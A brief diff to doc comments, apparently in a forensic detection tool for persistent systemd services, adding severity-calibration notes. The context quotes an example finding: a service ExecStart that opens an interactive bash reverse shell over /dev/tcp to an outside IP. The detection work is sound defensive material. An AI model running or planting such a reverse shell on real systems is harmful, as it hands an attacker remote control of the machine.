@@ -20,6 +20,10 @@
 //! `ExecStart=/bin/bash -c 'bash -i >& /dev/tcp/198.51.100.4/443 0>&1'`, enabled via
 //! multi-user.target.wants (critical).
 //!
+//! **Calibration:** role `foothold` (a way back in: listed among the entries still open when
+//! high); critical or high only for evidence that an attacker acted, medium for what needs a
+//! look, low and info for context (docs/PRECISION.md).
+//!
 //! **ATT&CK:** T1543.002 (Create or Modify System Process: Systemd Service), T1053.006 (Systemd
 //! Timers).
 
